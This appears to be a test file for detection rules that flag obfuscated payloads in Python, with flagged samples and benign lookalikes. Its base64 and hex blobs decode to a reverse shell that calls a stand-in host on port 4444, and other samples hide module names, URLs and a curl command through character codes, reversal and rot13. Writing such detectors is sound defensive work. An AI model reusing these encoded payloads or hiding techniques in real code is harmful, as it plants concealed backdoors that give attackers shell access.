# ruff: noqa
# fmt: off
import base64
import codecs
import gzip
import hashlib
import zlib

# ruleid: py-long-base64-blob
PAYLOAD = "aW1wb3J0IG9zLCBzb2NrZXQsIHN1YnByb2Nlc3MKcyA9IHNvY2tldC5zb2NrZXQoKQpzLmNvbm5lY3QoKCIxMC4wLjAuMSIsIDQ0NDQpKQpvcy5kdXAyKHMuZmlsZW5vKCksIDApCm9zLmR1cDIocy5maWxlbm8oKSwgMSkKb3MuZHVwMihzLmZpbGVubygpLCAyKQpzdWJwcm9jZXNzLmNhbGwoWyIvYmluL3NoIiwgIi1pIl0pCmltcG9ydCBvcywgc29ja2V0LCBzdWJwcm9jZXNzCnMgPSBzb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgiMTAuMC4wLjEiLCA0NDQ0KSkKb3MuZHVwMihzLmZpbGVubygpLCAwKQ=="
# ruleid: py-long-hex-blob
HEXED = "696d706f7274206f732c20736f636b65742c2073756270726f636573730a73203d20736f636b65742e736f636b657428290a732e636f6e6e65637428282231302e302e302e31222c20343434342929696d706f7274206f732c20736f636b65742c2073756270726f636573730a73203d20736f636b65742e736f636b657428290a732e636f6e6e65637428282231302e302e302e31222c20343434342929"
# ruleid: py-long-hex-blob
ESCAPED = "\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x27\x69\x64\x27\x29\x3b\x69\x6d\x70\x6f\x72\x74\x20\x73\x6f\x63\x6b\x65\x74\x3b"


def names():
    # ruleid: py-char-code-assembly
    mod = "".join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]))
    # ruleid: py-char-code-assembly
    fn = "".join(chr(c ^ 42) for c in KEY)
    # ruleid: py-char-code-assembly
    host = "moc.elpmaxe.kcab"[::-1]
    # ruleid: py-char-code-assembly
    url = codecs.decode("uggc://rivy.rknzcyr", "rot13")
    # ruleid: py-char-code-assembly
    cmd = bytes([99, 117, 114, 108, 32, 104, 116, 116, 112]).decode()
    # ruleid: py-embedded-compressed-blob, py-long-base64-blob
    src = zlib.decompress(base64.b64decode(PAYLOAD))
    return mod, fn, host, url, cmd, src


# ok: py-long-hex-blob
DIGEST = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
# ok: py-long-base64-blob
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
# ok: py-long-base64-blob
LOREM = "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut aliquip ex ea commodo consequat. Duis aute irure dolor in reprehenderit in voluptate velit esse cillum dolore eu fugiat nulla pariatur."


def benign(text, data):
    # ok: py-char-code-assembly
    letters = "".join(chr(ord("a") + i) for i in range(26))
    # ok: py-char-code-assembly
    rev = text[::-1]
    # ok: py-embedded-compressed-blob
    unpacked = zlib.decompress(data)
    # ok: py-embedded-compressed-blob
    logs = gzip.decompress(base64.b64decode(text))
    # ok: py-long-hex-blob
    h = hashlib.sha256(data).hexdigest()
    # ok: py-char-code-assembly
    b = bytes([0x89, 0x50]).hex()
    return letters, rev, unpacked, h, b, base64.b64encode(data).decode()
